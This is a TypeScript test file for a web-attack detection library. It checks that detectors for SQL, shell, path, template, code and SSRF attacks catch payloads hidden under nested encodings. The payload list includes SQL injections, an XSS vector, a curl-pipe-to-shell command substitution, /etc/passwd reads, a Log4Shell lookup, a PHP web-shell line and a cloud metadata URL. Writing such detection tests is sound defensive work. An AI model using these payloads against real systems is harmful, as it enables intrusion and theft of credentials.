import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { deflateSync, gzipSync } from 'node:zlib';
import {
  detectCode,
  detectMarkup,
  detectPath,
  detectShell,
  detectSql,
  detectSsrf,
  detectTemplate,
} from '../index.ts';

const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');
const base64url = (text: string): string => Buffer.from(text, 'latin1').toString('base64url');
const referred = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const eachCharacter = (text: string, write: (code: number) => string): string =>
  Array.from(text, (character) => write(character.charCodeAt(0))).join('');
const hex = (code: number, digits: number): string => code.toString(16).padStart(digits, '0');

const WRAPPINGS: Readonly<Record<string, (text: string) => string>> = {
  json: (text) => JSON.stringify({ a: 1, b: text }),
  'nested arrays': (text) => JSON.stringify([1, { a: [text] }]),
  'lenient JSON': (text) => `{'a':'${text.replaceAll('\\', '\\\\').replaceAll("'", "\\'")}'}`,
  percent: (text) => eachCharacter(text, (code) => `%${hex(code, 2)}`),
  component: encodeURIComponent,
  base64,
  base64url,
  gzip: (text) => gzipSync(text).toString('base64'),
  zlib: (text) => deflateSync(text).toString('base64'),
  references: (text) => eachCharacter(text, (code) => `&#${code};`),
  entities: referred,
  escapes: (text) => eachCharacter(text, (code) => `\\u${hex(code, 4)}`),
  'percent u': (text) => eachCharacter(text, (code) => `%u${hex(code, 4)}`),
  token: (text) => `eyJhbGciOiJIUzI1NiJ9.${base64url(JSON.stringify({ sub: text }))}.c2lnbmF0dXJl`,
  element: (text) => `<r><a>${referred(text)}</a></r>`,
  section: (text) => `<?xml version="1.0"?><r><![CDATA[${text}]]></r>`,
  query: (text) => `a=1&b=${encodeURIComponent(text)}&c=2`,
  address: (text) => `http://www.example.org/page?q=${encodeURIComponent(text)}`,
  'data address': (text) => `data:text/plain;base64,${base64(text)}`,
  graphql: (text) => `mutation { a(b: ${JSON.stringify(text)}) { id } }`,
};

const ATTACKS = [
  [detectSql, `1' union select password from users-- `],
  [detectSql, `1' and sleep(5)-- -`],
  [detectSql, `' or '1'='1`],
  [detectMarkup, '<svg onload=alert(1)>'],
  [detectShell, '; cat /etc/passwd'],
  [detectShell, '$(curl http://www.example.org/x|sh)'],
  [detectPath, '../../../../etc/passwd'],
  [detectTemplate, '${jndi:ldap://www.example.org/a}'],
  [detectTemplate, '{{7*7}}${7*7}'],
  [detectCode, '<?php system($_GET[1]);?>'],
  [detectCode, 'O:8:"Evil_Obj":1:{s:1:"a";s:2:"id";}'],
  [detectSsrf, 'http://169.254.169.254/latest/meta-data/'],
] as const;

describe('readings of a value', () => {
  for (const [outerName, outer] of Object.entries(WRAPPINGS)) {
    it(`finds attacks in ${outerName}, in any other wrapping`, () => {
      for (const [innerName, inner] of Object.entries(WRAPPINGS)) {
        for (const [detect, attack] of ATTACKS) {
          const value = outer(inner(attack));
          assert.notEqual(detect(value), null, `${attack} in ${innerName}: ${value}`);
        }
      }
    });
  }

  it('finds attacks that hex spells, in any wrapping', () => {
    for (const [name, wrap] of Object.entries(WRAPPINGS)) {
      for (const [detect, attack] of ATTACKS) {
        const value = wrap(Buffer.from(attack).toString('hex'));
        assert.notEqual(detect(value), null, `${attack} in ${name}: ${value}`);
      }
    }
  });
});
